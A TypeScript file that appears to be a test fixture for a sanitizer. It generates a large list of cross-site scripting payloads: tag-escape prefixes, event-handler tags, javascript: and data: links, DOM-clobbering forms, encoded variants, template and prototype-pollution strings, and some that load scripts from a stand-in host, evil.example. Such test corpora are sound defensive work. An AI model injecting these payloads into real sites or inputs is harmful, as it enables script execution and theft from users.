// Markup that would run a script, apply a style, load something or take over a name, if any text of it became markup. Each
// element of it has the attribute `zq`, each script sets `window.ran`, and each style sets `--zq`.

const RUN = 'window.ran=1';
const FAR = 'http://evil.example/x';

/** What stands before, to leave the place where the text is put. */
const EXITS = [
  '',
  '">',
  "'>",
  '-->',
  ']]>',
  '</title>',
  '</textarea>',
  '</script>',
  '</style>',
  '</template></noscript>',
];

const HANDLERS: [tag: string, handler: string, more?: string][] = [
  ['img', 'onerror', 'src=x'],
  ['svg', 'onload'],
  ['body', 'onpageshow'],
  ['input', 'onfocus', 'autofocus'],
  ['select', 'onfocus', 'autofocus'],
  ['details', 'ontoggle', 'open'],
  ['marquee', 'onstart'],
  ['video', 'onerror', 'src=x'],
  ['audio', 'onloadstart', 'src=x'],
  ['object', 'onerror', 'data=x'],
  ['iframe', 'onload', 'src=x'],
  ['link', 'onerror', 'rel=stylesheet href=x'],
  ['x', 'onanimationstart', 'style="animation:a 1ms"'],
  ['button', 'onfocus', 'autofocus popovertarget=root'],
  ['dialog', 'onfocusin', 'open tabindex=0'],
];

const ELEMENTS = [
  `<script zq>${RUN}</script>`,
  `<script zq src=${FAR}></script>`,
  `<script zq type=module>import "${FAR}"</script>`,
  `<svg zq><script>${RUN}</script></svg>`,
  `<svg zq><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg zq><use href="data:image/svg+xml,<svg id=x onload=${RUN}>#x"/>`,
  `<svg zq><a href="javascript:${RUN}"><text y=9>go</text></a></svg>`,
  `<svg zq><foreignObject><img src=x onerror=${RUN}></foreignObject>`,
  `<svg zq><style>:root{--zq:1}</style></svg>`,
  `<math zq><mi xlink:href="javascript:${RUN}">go</mi></math>`,
  `<math><mtext><table><mglyph><style><img zq src=x onerror=${RUN}>`,
  `<a zq href="javascript:${RUN}">go</a>`,
  `<a zq href="data:text/html,<script>${RUN}</script>">go</a>`,
  `<a zq href="${FAR}" target=_blank>go</a>`,
  `<form zq action="${FAR}"><button>go</button></form>`,
  `<button zq formaction="javascript:${RUN}">go</button>`,
  `<iframe zq srcdoc="<script>parent.ran=1</script>"></iframe>`,
  `<iframe zq src="javascript:parent.ran=1"></iframe>`,
  `<object zq data="data:text/html,<script>parent.ran=1</script>"></object>`,
  `<embed zq src="${FAR}">`,
  `<base zq href="${FAR}">`,
  `<meta zq http-equiv=refresh content="0;url=${FAR}">`,
  `<meta zq http-equiv=Content-Security-Policy content="script-src *">`,
  `<link zq rel=stylesheet href="${FAR}">`,
  `<link zq rel=preload as=image href="${FAR}">`,
  `<style zq>:root{--zq:1}</style>`,
  `<style zq>@import "${FAR}";</style>`,
  `<p zq style="--zq:1;background:url(${FAR})">x</p>`,
  `<img zq src="${FAR}">`,
  `<img zq src=//evil.example/x>`,
  `<img zq srcset="${FAR} 1x">`,
  `<video zq poster="${FAR}">`,
  `<table zq background="${FAR}">`,
  `<template zq><script>${RUN}</script></template>`,
  `<template shadowrootmode=open><img zq src=x onerror=${RUN}></template>`,
  `<noscript><p title="</noscript><img zq src=x onerror=${RUN}>">`,
  `<xmp><img zq src=x onerror=${RUN}></xmp>`,
  `<plaintext zq>`,
];

/** Names that scripts look for in the document and the window. */
const CLOBBERED = [
  'root',
  'body',
  'head',
  'cookie',
  'location',
  'trustedTypes',
  'Parley',
  '__webpack_nonce__',
  'csp-nonce',
];
const clobbering = CLOBBERED.flatMap((name) => [
  `<form zq id=${name} name=${name}><input name=children></form>`,
  `<a zq id=${name}><a zq id=${name} name=href href="${FAR}">`,
]);

const entities = (text: string): string => [...text].map((one) => `&#${one.codePointAt(0)};`).join('');
const escapes = (text: string): string =>
  [...text].map((one) => `\\u${one.charCodeAt(0).toString(16).padStart(4, '0')}`).join('');
/** Ways to write markup so that somebody who decodes it once too often gets the markup. */
const CODINGS: ((text: string) => string)[] = [
  entities,
  escapes,
  encodeURIComponent,
  (text) => encodeURIComponent(encodeURIComponent(text)),
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text) => text.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-'),
  (text) => text.replaceAll('<', '＜').replaceAll('>', '＞'),
  (text) => text.replaceAll('<', '<\u200b'),
  (text) => text.replaceAll(' ', '/'),
  (text) => text.toUpperCase(),
  (text) => text.replace('<', '<<'),
  (text) => Buffer.from(text).toString('base64'),
];

const SCHEMES = [
  'javascript',
  'JaVaScRiPt',
  ' javascript',
  'java\tscript',
  '\u0001javascript',
  'vbscript',
  'livescript',
];
const LINKS = [
  ...SCHEMES.map((scheme) => `${scheme}:${RUN}`),
  `data:text/html;base64,${Buffer.from(`<script>${RUN}</script>`).toString('base64')}`,
  `data:image/svg+xml,<svg zq onload=${RUN}>`,
  `blob:${FAR}`,
  `filesystem:${FAR}`,
  `view-source:${FAR}`,
  `\\\\evil.example\\x`,
];
/** What those who know Markdown, templates or a console would make of it. */
const WRITTEN = [
  ...LINKS.flatMap((link) => [link, `[go](${link})`, `![go](${link})`, `<${link}>`]),
  `[go]: javascript:${RUN}`,
  `[go](https://a.example "onclick=${RUN}")`,
  `https://a.example/"onmouseover="${RUN}`,
  `https://a.example/<img zq src=x onerror=${RUN}>`,
  `https://javascript:${RUN}@a.example/`,
  `{{constructor.constructor("${RUN}")()}}`,
  `\${${RUN}}`,
  `<%= ${RUN} %>`,
  `#{${RUN}}`,
  `__proto__[ran]=1`,
  `{"__proto__":{"ran":1}}`,
  `'-${RUN}-'`,
  `";${RUN};//`,
  `\`;${RUN};\``,
  `*/${RUN}/*`,
  `:root{--zq:1}`,
  `}:root{--zq:1`,
  `expression(${RUN})`,
];
/** Texts that change the order or the shape of what stands around them. */
const SHAPES = ['\u202e', '\u2066', '\u2067', '\u200f', '\u202a\u202e', '\u0301'.repeat(20), '\ufeff', '\u2028'].map(
  (mark) => `zq ${mark} <img zq src=x onerror=${RUN}>`,
);

const handlers = HANDLERS.map(([tag, handler, more = '']) => `<${tag} zq ${more} ${handler}=${RUN}>`);

/** All of them, each once. */
export const PAYLOADS: readonly string[] = [
  ...new Set([
    ...EXITS.flatMap((exit) => handlers.map((one) => exit + one)),
    ...ELEMENTS,
    ...ELEMENTS.slice(0, 12).map((one) => `</title></textarea>${one}`),
    ...clobbering,
    ...CODINGS.flatMap((code) => handlers.slice(0, 6).map(code)),
    ...WRITTEN,
    ...SHAPES,
  ]),
];

/** The payloads, as many in each text as fit. */
export const textsOf = (payloads: readonly string[], maxChars: number): string[] => {
  const texts: string[] = [];
  for (const payload of payloads) {
    const last = texts.at(-1);
    if (last !== undefined && last.length + payload.length < maxChars) texts[texts.length - 1] = `${last}\n${payload}`;
    else texts.push(payload);
  }
  return texts;
};
